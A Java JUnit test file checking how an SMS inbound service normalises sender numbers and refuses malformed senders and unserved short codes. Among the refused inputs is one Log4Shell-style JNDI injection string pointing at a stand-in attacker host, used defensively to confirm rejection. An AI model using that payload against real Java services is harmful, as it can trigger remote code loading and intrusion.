/* SPDX-License-Identifier: Apache-2.0 */
package io.uptext.inbound.edge;

import static org.assertj.core.api.Assertions.assertThat;

import io.uptext.contracts.event.InboundSmsReceived;
import java.io.IOException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Senders and destinations in every spelling: read as the one number that they can be, or refused. */
class NumberTests extends EdgeTest {

    @ParameterizedTest
    @CsvSource({
        "+44 7700 900123, +447700900123",
        "447700900123, +447700900123",
        "00447700900123, +447700900123",
        "+44(0)7700 900123, +447700900123",
        "+39 06 698 12345, +390669812345",
        "+5215512345678, +525512345678",
        "+541115 2345-6789, +5491123456789",
        "+5511961234567, +5511961234567",
        "+225 01 23 45 67 89, +2250123456789",
        "+1 876 555 0123, +18765550123",
        "+77012345678, +77012345678",
        "+881612345678, +881612345678",
    })
    void aSenderIsOneNumberHoweverItIsSpelled(String spelled, String number) throws IOException {
        deliver(Delivery.postForm("", Delivery.form(spelled, "50500", "a"))).isTaken();

        InboundSmsReceived event =
                (InboundSmsReceived) doors().sink().all().getLast().event();
        assertThat(event.sender().e164()).isEqualTo(number);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "+",
                "0",
                "07700900123",
                "+4477009001234567",
                "123456789012345678901234567890",
                "tel:+447700900123",
                "+447700900123;ext=5",
                "+447700900123 ext. 5",
                "anonymous",
                "unknown",
                "ACME",
                "AC\u041cE",
                "someone@example.com",
                "50500",
                "+50500",
                "72000",
                "\u0664\u0664\u0667\u0667\u0660\u0660\u0669\u0660\u0660\u0661\u0662\u0663",
                "\uff0b447700900123",
                "+447700\u0000900123",
                "+447700\r\n900123",
                "+4477009001\u200b23",
                "+19005550123",
                "+18005550123",
                "+999123456789",
                "${jndi:ldap://evil.example.com/a}",
            })
    void whatIsNobodysNumberIsRefused(String spelled) throws IOException {
        deliver(Delivery.postForm("", Delivery.form(spelled, "50500", Delivery.CANARY)))
                .isRefusedWith(422);
    }

    @ParameterizedTest
    @ValueSource(strings = {"50500", "+50500", " 50500 ", "50500 "})
    void aShortCodeIsOneDestination(String spelled) throws IOException {
        deliver(Delivery.postForm("", Delivery.form("+" + Delivery.NUMBER, spelled, "a")))
                .isTaken();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "50501",
                "5050",
                "050500",
                "505000",
                "nowhere",
                "+46701234567",
                "\u0665\u0660\u0665\u0660\u0660",
                "50500,50501"
            })
    void whatTheConnectorDoesNotServeIsRefused(String spelled) throws IOException {
        deliver(Delivery.postForm("", Delivery.form("+" + Delivery.NUMBER, spelled, Delivery.CANARY)))
                .isRefusedWith(422);
    }
}
